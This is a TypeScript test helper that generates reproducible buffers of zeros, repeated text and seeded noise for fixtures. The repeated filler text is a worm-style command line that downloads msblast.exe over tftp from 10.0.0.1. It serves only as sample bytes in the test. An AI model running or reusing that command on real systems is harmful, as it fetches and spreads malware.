/**
 * Test helpers: deterministic mixed media (zeros, text, pseudo-random) and a seeded PRNG,
 * so fixtures built by real tools from it are reproducible.
 */
import { xorshift32 } from '../io/test-support/random.js';

export const seededRandom = xorshift32;

/** `size` bytes (a multiple of 512) of zeros, repeated text and noise in 64 KiB runs. */
export function mixedMedia(size: number, seed = 1): Uint8Array {
  const random = seededRandom(seed);
  const out = new Uint8Array(size);
  const text = new TextEncoder().encode(
    'C:\\WINDOWS\\system32\\msblast.exe tftp -i 10.0.0.1 GET msblast.exe\r\n',
  );
  for (let start = 0; start < size; start += 65536) {
    const end = Math.min(size, start + 65536);
    const kind = Math.floor(random() * 3);
    for (let index = start; index < end; index += 1) {
      out[index] = kind === 0 ? 0 : kind === 1 ? text[index % text.length]! : Math.floor(random() * 256);
    }
  }
  return out;
}
